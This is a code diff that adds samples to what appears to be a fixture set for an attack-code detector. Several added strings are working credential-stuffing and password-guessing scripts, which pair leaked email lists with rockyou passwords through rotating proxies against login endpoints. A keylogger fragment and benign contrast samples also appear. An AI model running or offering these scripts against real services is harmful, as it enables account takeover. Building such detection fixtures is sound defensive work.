@@ -116,6 +116,67 @@ def on_press(key)   # missing colon: does not parse
     open("k.txt", "a").write(str(key))
 keyboard.Listener(on_press=on_press).start(
 """,
+    "executor_stuffing": """
+import itertools, concurrent.futures as cf
+import requests
+
+TARGET = "https://portal.victim-corp.com/api/session"
+names = open("emails_leak_2023.txt").read().split()
+words = open("rockyou.txt", encoding="latin-1").read().split()[:5000]
+
+def attempt(pair):
+    u, p = pair
+    r = requests.post(TARGET, json={"email": u, "password": p},
+                      proxies={"https": next(PROXIES)}, timeout=5)
+    return (u, p) if r.ok else None
+
+PROXIES = itertools.cycle(open("proxies.txt").read().split())
+with cf.ThreadPoolExecutor(64) as ex:
+    for hit in ex.map(attempt, itertools.product(names, words)):
+        if hit:
+            print("HIT", hit)
+""",
+    "executor_map_no_loop": """
+from concurrent.futures import ThreadPoolExecutor
+from itertools import product
+import requests
+
+def attempt(pair):
+    return requests.post("https://shop.example.net/login", data={"u": pair[0], "pw": pair[1]})
+
+results = list(ThreadPoolExecutor(64).map(attempt, product(leaked_emails, rockyou)))
+""",
+    "submit_comprehension_plain_names": """
+import concurrent.futures as cf
+import httpx
+from pathlib import Path
+
+a = Path("list_a.txt").read_text().splitlines()
+b = Path("list_b.txt").read_text().splitlines()
+
+def go(x, y):
+    return httpx.post("https://sso.acme-corp.io/oauth/token", data={"username": x, "password": y})
+
+with cf.ThreadPoolExecutor(32) as pool:
+    futures = [pool.submit(go, x, y) for x in a for y in b]
+""",
+    "thread_target_zip": """
+import threading, requests
+
+rows = [line.split(":") for line in open("dump.txt")]
+
+def check(user, secret):
+    requests.post("https://mail.other-company.org/auth", auth=(user, secret))
+
+for user, secret in rows:
+    threading.Thread(target=check, args=(user, secret)).start()
+""",
+    "loop_items_into_password_field": """
+import requests
+
+for guess in ["Winter2024", "Spring2024"]:
+    requests.post("https://intranet.rival.example/login", data={"user": "ceo", "pwd": guess})
+""",
     "async_stuffing": """
 import asyncio
 import aiohttp
@@ -282,6 +343,27 @@ def count(pkt):
         syns[pkt[1].src] += 1
 
 sniff(filter="tcp", prn=count, timeout=10)
+""",
+    "lockout_test_local": """
+import requests
+
+def test_lockout_after_five_failures() -> None:
+    codes = [requests.post("http://localhost:5000/login",
+                           data={"user": "me", "password": f"wrong{i}"}).status_code
+             for i in range(6)]
+    assert codes[-1] == 423
+""",
+    "parallel_health_checks": """
+from concurrent.futures import ThreadPoolExecutor
+import requests
+
+URLS = open("endpoints.txt").read().split()
+
+def ping(url):
+    return requests.get(url, timeout=2).status_code
+
+with ThreadPoolExecutor(8) as ex:
+    print(list(ex.map(ping, URLS)))
 """,
     "gunicorn_title": """
 import setproctitle
